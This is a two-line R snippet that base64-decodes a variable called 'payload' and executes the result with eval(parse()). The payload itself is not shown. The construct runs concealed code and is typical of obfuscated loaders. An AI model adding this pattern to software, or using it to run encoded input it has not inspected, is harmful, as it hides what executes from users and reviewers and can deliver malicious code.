cmd <- rawToChar(base64enc::base64decode(payload))
eval(parse(text = cmd))
